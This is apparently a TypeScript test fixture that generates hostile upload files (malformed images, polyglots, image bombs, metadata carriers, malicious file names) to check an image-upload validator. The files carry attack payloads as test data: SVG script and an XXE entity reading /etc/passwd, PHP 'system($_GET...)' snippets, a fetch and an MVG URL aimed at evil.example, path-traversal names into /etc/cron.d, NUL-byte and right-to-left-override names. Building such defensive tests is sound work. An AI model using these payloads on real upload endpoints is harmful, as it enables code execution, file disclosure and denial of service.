import { deflateSync, gzipSync } from 'node:zlib';
import sharp from 'sharp';
import { uploadLimits } from '@dugout/contract/features/uploads/upload.rules.ts';
import {
  exifWithThumbnail,
  gif,
  iptc,
  jpegSegment,
  repeatedScans,
  resizedJpeg,
  riff,
  riffChunk,
  webpCanvas,
  withSegment,
  zip,
} from './image-bytes.ts';
import { noise, noisePng, png, pngChunk, pngHeader, pngSignature } from './pictures.ts';

/** Stands in every file that could carry it, and may stand in none that is stored. */
export const marker = 'PLANTED-f3a9-MARKER';

/** The code of the problem, or that the picture is stored (and then nothing but the picture). */
export type Verdict = 'stored' | `upload.${string}` | `input.${string}`;

export interface HostileFile {
  readonly what: string;
  readonly content: Buffer;
  readonly verdict: Verdict;
  /** What the sender claims. */
  readonly fileName?: string;
  readonly type?: string;
}

const wrongType = 'upload.wrong-type';
const unreadable = 'upload.unreadable';
const tooManyPixels = 'upload.too-many-pixels';
const stored = 'stored';

const text = (value: string) => Buffer.from(value.replaceAll('MARK', marker), 'latin1');
const bytes = (hex: string, rest = 'MARK'.repeat(20)) => Buffer.concat([Buffer.from(hex, 'hex'), text(rest)]);

const side = 96;
const pixels = noise(side * side * 3, 7);
const picture = () => sharp(pixels, { raw: { width: side, height: side, channels: 3 } });
const place = {
  GPSLatitudeRef: 'N',
  GPSLatitude: '30/1 16/1 2/1',
  GPSLongitudeRef: 'W',
  GPSLongitude: '97/1 44/1 9/1',
};
const exif = { IFD0: { Copyright: marker, Make: `<?php system('${marker}'); ?>` }, IFD3: place };
const xmp = `<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><rdf:Description xmlns:exif="http://ns.adobe.com/exif/1.0/" exif:GPSLatitude="30,16.0N" exif:UserComment="${marker}"/></rdf:RDF></x:xmpmeta>`;

/** What is no picture of ours at all, whatever it is called. */
async function notPictures(): Promise<HostileFile[]> {
  const svg = text(
    '<svg xmlns="http://www.w3.org/2000/svg" width="90" height="90"><script>alert("MARK")</script></svg>',
  );
  const entity = text(
    '<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><text>&x;MARK</text></svg>',
  );
  const files: [string, Buffer, string?, string?][] = [
    ['an SVG with a script', svg, 'logo.svg', 'image/svg+xml'],
    ['an SVG that calls itself a PNG', svg, 'logo.png', 'image/png'],
    ['an SVG that names a file of the server', entity, 'logo.svg', 'image/svg+xml'],
    ['a compressed SVG', gzipSync(svg), 'logo.svgz', 'image/svg+xml'],
    ['a page', text('<!doctype html><script>alert("MARK")</script>'), 'photo.jpg', 'image/jpeg'],
    ['a script', text('fetch("//evil.example?MARK")'), 'photo.gif', 'image/gif'],
    ['a PHP program', text('<?php echo "MARK"; ?>'), 'photo.php.jpg', 'image/jpeg'],
    ['a PDF', text('%PDF-1.7\n1 0 obj<</S/JavaScript/JS(app.alert\\("MARK"\\))>>endobj'), 'a.pdf', 'application/pdf'],
    [
      'a PostScript program',
      text('%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n(MARK) print'),
      'a.eps',
      'image/jpeg',
    ],
    [
      'a drawing that names an address',
      text('push graphic-context\nfill url(https://evil.example/MARK)'),
      'a.mvg',
      'image/png',
    ],
    ['a TIFF', await picture().tiff().toBuffer(), 'a.tif', 'image/tiff'],
    ['an AVIF', await picture().avif({ effort: 0 }).toBuffer(), 'a.avif', 'image/avif'],
    ['the start of a HEIC', bytes('00000018667479706865696300000000'), 'a.heic', 'image/heic'],
    ['the start of a BMP', bytes('424d36000000000000003600000028000000'), 'a.bmp', 'image/bmp'],
    ['an icon', bytes('00000100010010100000010020006804000016000000'), 'a.ico', 'image/x-icon'],
    ['a Photoshop file', bytes('384250530001000000000000000300000009000000090008'), 'a.psd', 'image/png'],
    ['a film', bytes('00000018667479706d703432000000006d703432'), 'a.mp4', 'video/mp4'],
    ['a WebM', bytes('1a45dfa39f4286810142f7810142f2810442f381084282847765626d'), 'a.webm', 'video/webm'],
    ['an archive', zip('evil.html', marker), 'a.zip', 'image/png'],
    ['a program', bytes('7f454c4602010100000000000000000003003e00'), 'a.png', 'image/png'],
    ['a JPEG XL', bytes('0000000c4a584c200d0a870a'), 'a.jxl', 'image/jxl'],
    ['a portable pixmap', text('P6\n9 9\n255\n' + 'MARK'.repeat(90)), 'a.ppm', 'image/png'],
    ['a FITS image', text('SIMPLE  =                    T / MARK'), 'a.fits', 'image/png'],
    ['an OpenEXR image', bytes('762f310102000000'), 'a.exr', 'image/png'],
    ['a file of the library itself', bytes('08f2a6b600000009000000090000000300000000'), 'a.v', 'image/png'],
    ['a WAV in the dress of a WebP', bytes('5249464624000000574156452020'), 'a.webp', 'image/webp'],
    ['one byte', Buffer.from([0xff]), 'a.jpg', 'image/jpeg'],
  ];
  const refused = files.map(([what, content, fileName = 'a', type = 'image/png']) => ({
    what,
    content,
    fileName,
    type,
  }));
  return refused.map((file) => ({ ...file, verdict: wrongType }));
}

/** Pictures that end too early, or whose bytes are wrong. */
async function damaged(): Promise<HostileFile[]> {
  const whole = {
    PNG: noisePng(side, 3),
    JPEG: await picture().jpeg().toBuffer(),
    'progressive JPEG': await picture().jpeg({ progressive: true }).toBuffer(),
    WebP: await picture().webp().toBuffer(),
    GIF: await picture().gif().toBuffer(),
  };
  const cut = Object.entries(whole).flatMap(([kind, content]) =>
    [0.3, 0.6, 0.95].map((part) => ({
      what: `the first ${part * 100} % of a ${kind}`,
      content: content.subarray(0, Math.floor(content.length * part)),
      verdict: unreadable as Verdict,
    })),
  );
  const wrongSum = Buffer.from(whole.PNG);
  wrongSum[29] = wrongSum[29]! ^ 0xff;
  const wrongPixels = Buffer.concat([
    pngSignature,
    pngHeader({ width: 9, height: 9 }),
    pngChunk('IDAT', text('not compressed at all MARK')),
    pngChunk('IEND', Buffer.alloc(0)),
  ]);
  return [
    ...cut,
    { what: 'nothing', content: Buffer.alloc(0), verdict: unreadable },
    { what: 'only the first bytes of a PNG', content: pngSignature, verdict: unreadable },
    { what: 'only the first bytes of a JPEG', content: Buffer.from('ffd8ffe0', 'hex'), verdict: unreadable },
    { what: 'only the first bytes of a GIF', content: Buffer.from('GIF89a'), verdict: unreadable },
    { what: 'only the first bytes of a WebP', content: riff(), verdict: unreadable },
    { what: 'a PNG whose header has a wrong check sum', content: wrongSum, verdict: unreadable },
    { what: 'a PNG whose pixels are no pixels', content: wrongPixels, verdict: unreadable },
    {
      what: 'a GIF that is a script too',
      content: text('GIF89a/*MARK*/=1;alert("MARK")//' + ' '.repeat(200)),
      verdict: unreadable,
    },
    {
      what: 'a PNG without pixels, of a negative size',
      content: Buffer.concat([pngSignature, pngHeader({ width: 0xffff_ffff, height: 9 })]),
      verdict: unreadable,
    },
  ];
}

/** Small files that want to be large pictures. */
async function bombs(): Promise<HostileFile[]> {
  const header = (width: number, height: number) =>
    Buffer.concat([pngSignature, pngHeader({ width, height }), pngChunk('IDAT', deflateSync(Buffer.alloc(1_000)))]);
  const flat = (width: number, height: number) => png({ width, height, colour: 0 }, Buffer.alloc(height * (1 + width)));
  const jpeg = await picture().jpeg().toBuffer();
  const progressive = await sharp({ create: { width: 2_000, height: 2_000, channels: 3, background: 'red' } })
    .jpeg({ progressive: true })
    .toBuffer();
  const animation = await sharp(gif(200), { animated: true }).webp({ effort: 0 }).toBuffer();
  const deep = { width: 5_000, height: 5_000, depth: 16, colour: 0 };
  const compressed = (size: number) => Buffer.concat([text('name\0\0'), deflateSync(Buffer.alloc(size))]);
  const files: [string, Buffer, Verdict][] = [
    ['a PNG that says 50,000 × 50,000', header(50_000, 50_000), tooManyPixels],
    ['a PNG that says 2,000,000,000 × 1', header(2_000_000_000, 1), unreadable],
    ['a JPEG that says 65,500 × 65,500', resizedJpeg(jpeg, 65_500, 65_500), tooManyPixels],
    ['a GIF that says 65,535 × 65,535', gif(1, 65_535, 65_535), tooManyPixels],
    ['a GIF just over its limit', gif(1, 5_000, 4_001), tooManyPixels],
    ['a WebP canvas of 16,000,000 × 100', webpCanvas(16_000_000, 100), unreadable],
    ['a PNG of zeros, 12,000 × 12,000', flat(12_000, 12_000), tooManyPixels],
    ['a PNG of zeros just over the limit', flat(10_000, 4_001), tooManyPixels],
    ['a PNG one pixel high and too wide', flat(uploadLimits.side + 1, 1), tooManyPixels],
    ['a PNG of 16 bits that is too large for its depth', png(deep, Buffer.alloc(5_000 * 10_001)), tooManyPixels],
    ['a PNG of zeros just within the limit', flat(10_000, 4_000), stored],
    ['a GIF of 5,000 frames', gif(5_000), stored],
    ['an animated WebP', animation, stored],
    ['a progressive JPEG of thousands of scans', repeatedScans(progressive, 20_000), unreadable],
    ['a PNG whose text unfolds to 60 MB', noisePng(side, 4, pngChunk('zTXt', compressed(60_000_000))), stored],
    ['a PNG whose profile unfolds to 60 MB', noisePng(side, 5, pngChunk('iCCP', compressed(60_000_000))), stored],
    ['a PNG with 20,000 texts', noisePng(side, 6, ...manyTexts(20_000)), stored],
  ];
  return files.map(([what, content, verdict]) => ({ what, content, verdict }));
}

const manyTexts = (count: number) => Array.from({ length: count }, () => pngChunk('tEXt', text('Comment\0MARK')));

/** Good pictures that carry something else: the picture is taken, the rest is not. */
async function carriers(): Promise<HostileFile[]> {
  const jpeg = await picture().jpeg().toBuffer();
  const located = await picture().withExif(exif).jpeg().toBuffer();
  const webp = await picture().webp().toBuffer();
  const page = text('<html><script>alert("MARK")</script></html>');
  const profile = Buffer.concat([text('ICC_PROFILE\0\u0001\u0001'), noise(100, 1), text('MARK')]);
  const files: [string, Buffer][] = [
    ['a JPEG with its place in EXIF', located],
    ['a PNG with its place in EXIF', await picture().withExif(exif).png().toBuffer()],
    ['a WebP with its place in EXIF', await picture().withExif(exif).webp().toBuffer()],
    ['a JPEG with its place in XMP', await picture().withXmp(xmp).jpeg().toBuffer()],
    ['a PNG with its place in XMP', await picture().withXmp(xmp).png().toBuffer()],
    ['a WebP with its place in XMP', await picture().withXmp(xmp).webp().toBuffer()],
    ['a JPEG with a caption in IPTC', withSegment(jpeg, 0xed, iptc(marker))],
    ['a JPEG whose thumbnail has a place', withSegment(jpeg, 0xe1, exifWithThumbnail(located))],
    ['a JPEG with a second one behind it that has a place', Buffer.concat([jpeg, located])],
    ['a JPEG with a profile of another camera', await picture().withIccProfile('p3').jpeg().toBuffer()],
    ['a JPEG with text for a profile', withSegment(jpeg, 0xe2, profile)],
    ['a JPEG with a page in its comment', withSegment(jpeg, 0xfe, page)],
    ['a JPEG with a page behind its end', Buffer.concat([jpeg, page])],
    ['a JPEG with PHP in its comment', withSegment(jpeg, 0xfe, text('<?php system($_GET["MARK"]); ?>'))],
    ['a JPEG that is an archive too', Buffer.concat([jpeg, zip('evil.html', marker)])],
    [
      'a JPEG with a script in its header',
      Buffer.concat([jpeg.subarray(0, 2), jpegSegment(0xe0, text('JFIF/*MARK*/=1')), jpeg.subarray(2)]),
    ],
    ['a PNG with PHP in its text', noisePng(side, 8, pngChunk('tEXt', text('Comment\0<?php MARK ?>')))],
    ['a PNG with a chunk of its own', noisePng(side, 9, pngChunk('evIL', text('MARK'.repeat(500))))],
    ['a PNG with a page behind its end', Buffer.concat([noisePng(side, 10), page])],
    ['a WebP with a chunk of its own', riff(webp.subarray(12), riffChunk('EVIL', text('MARK')))],
    ['a GIF with a comment', withComment(await picture().gif().toBuffer())],
    ['a JPEG in the colours of print', await picture().toColourspace('cmyk').withExif(exif).jpeg().toBuffer()],
    [
      'a PNG of 16 bits',
      png({ width: 40, height: 40, depth: 16 }, Buffer.alloc(40 * 241), pngChunk('tEXt', text('a\0MARK'))),
    ],
  ];
  return files.map(([what, content]) => ({ what, content, verdict: stored }));
}

function withComment(picture_: Buffer): Buffer {
  const comment = text('MARK');
  const end = picture_.length - 1;
  const block = Buffer.concat([Buffer.from([0x21, 0xfe, comment.length]), comment, Buffer.from([0])]);
  return Buffer.concat([picture_.subarray(0, end), block, picture_.subarray(end)]);
}

/** A good picture under a bad name. */
function names(): HostileFile[] {
  const content = noisePng(side, 11);
  const bad: [string, string, string?][] = [
    ['a path', '../../../../etc/cron.d/evil.png'],
    ['a path of another system', '..\\..\\windows\\evil.png'],
    ['a NUL', 'evil.php\0.png'],
    ['a direction', 'evil\u202egnp.exe'],
    ['a page', '<img src=x onerror=alert(1)>.png'],
    ['4,000 letters', 'a'.repeat(3_900) + '.png'],
    ['no ending', 'evil', 'text/html'],
    ['another type', 'photo.svg', 'image/svg+xml'],
  ];
  return bad.map(([what, fileName, type = 'image/png']) => ({
    what: `a picture whose name is ${what}`,
    content,
    fileName,
    type,
    verdict: stored,
  }));
}

export async function hostileFiles(): Promise<HostileFile[]> {
  return [...(await notPictures()), ...(await damaged()), ...(await bombs()), ...(await carriers()), ...names()];
}
